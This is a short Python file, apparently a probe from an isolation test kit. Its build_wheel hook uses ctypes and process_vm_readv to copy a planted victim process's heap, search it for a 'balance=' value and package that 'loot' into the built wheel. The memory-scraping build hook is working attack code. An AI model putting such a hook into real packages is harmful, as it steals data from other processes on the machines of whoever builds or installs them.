"""Copies the heap of a planted process with process_vm_readv(2).

No debugger is attached and no file opened. The kernel asks only whether the one might
trace the other.
"""

import ctypes

import kit


class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        victim = kit.callable_pid("victim")
        libc = ctypes.CDLL(None, use_errno=True)
        libc.process_vm_readv.argtypes = [ctypes.c_int] + [ctypes.c_void_p, ctypes.c_ulong] * 2 + [ctypes.c_ulong]
        libc.process_vm_readv.restype = ctypes.c_ssize_t
        for start, end in kit.writable_memory(victim):
            copy = ctypes.create_string_buffer(end - start)
            here, there = Span(ctypes.addressof(copy), end - start), Span(start, end - start)
            got = libc.process_vm_readv(victim, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            at = copy.raw.find(b"balance=") if got > 0 else -1
            if at >= 0:
                loot["data.bin"] = copy.raw[at : at + 100]
    return kit.wheel(wheel_directory, loot)
